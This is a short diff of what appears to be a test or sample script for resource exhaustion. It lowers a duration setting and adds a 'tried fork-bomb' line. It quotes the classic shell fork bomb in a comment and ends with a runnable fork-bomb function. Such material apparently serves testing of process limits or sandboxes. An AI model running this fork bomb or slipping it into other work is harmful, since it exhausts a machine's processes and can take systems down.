@@ -1,4 +1,5 @@
 # tries: use up the machine's processes
-# duration: 3
+# duration: 1
 # from: :(){ :|:& };:
+tried fork-bomb
 f() { f | f & }; f; sleep 10
